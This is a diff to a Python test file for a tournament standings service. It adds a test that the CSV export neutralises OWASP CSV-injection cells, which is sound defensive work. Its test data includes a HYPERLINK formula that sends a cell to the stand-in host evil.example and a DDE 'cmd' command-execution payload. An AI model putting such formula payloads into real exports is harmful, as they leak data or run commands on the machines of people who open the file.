@@ -32,7 +32,7 @@ from service.rules.free_parking.bundle import (
     standings_of,
     table_of,
 )
-from service.rules.free_parking.standings import TableStanding
+from service.rules.free_parking.standings import PlayerStanding, RoundScore, TableStanding
 from service.simulate import START_AT, new_game, play
 
 from .forge import index_of, replace, with_public
@@ -129,6 +129,31 @@ def test_the_standings_csv_has_one_row_per_player_per_round(tournament):
         "seat": str(r.seat), "score": str(r.score), "bonus": str(r.bonus), "total": str(r.total),
         "winner": "yes" if p.winner else "no",
     }  # fmt: skip
+
+
+def test_the_standings_csv_opens_no_formula_in_a_spreadsheet(tournament):
+    """OWASP's CSV injection: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
+    written with a leading ``'``; other text is as it was, and the numbers the service writes stay numbers."""
+    manifest, _ = tournament
+    names = {
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+        "-2+3": "'-2+3",
+        "@SUM(A1:A9)": "'@SUM(A1:A9)",
+        "\tTab": "'\tTab",
+        "\rReturn": "'\rReturn",
+        "Ann": "Ann",
+        "'Bo": "'Bo",
+        "Cy = 1": "Cy = 1",
+    }
+    rounds = [RoundScore(round=1, seat=0, score=-3, bonus=-1, total=-3)]
+    players = [PlayerStanding(player_id="=p" if i == 0 else None, name=name, rounds=rounds) for i, name in enumerate(names)]
+    game_id = manifest.standings[0].game_id
+    forged = replace(manifest, tournament_id="@t", standings=[TableStanding(game_id=game_id, rounds=1, players=players)])
+    rows = list(csv.DictReader(io.StringIO(standings_csv(forged), newline="")))
+    assert [row["name"] for row in rows] == list(names.values())
+    assert {row["tournament_id"] for row in rows} == {"'@t"} and rows[0]["player_id"] == "'=p"
+    assert all((row["score"], row["bonus"], row["total"], row["round"]) == ("-3", "-1", "-3", "1") for row in rows)
 
 
 def test_a_score_altered_in_the_manifest_names_table_player_and_round(tournament, tmp_path, capsys):
@@ -232,6 +257,6 @@ def test_a_bundle_verifies_and_audits_without_redis_or_sanic(tournament, tmp_pat
         "from replays.__main__ import main\n"
         f"sys.exit(main(['verify', {path!r}]) or main(['audit', {path!r}]))\n"
     )
-    run = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=60)
+    run = subprocess.run([sys.executable, "-c", script], check=False, cwd=ROOT, capture_output=True, text=True, timeout=60)
     assert run.returncode == 0, run.stdout + run.stderr
     assert "OK tournament t-spring" in run.stdout
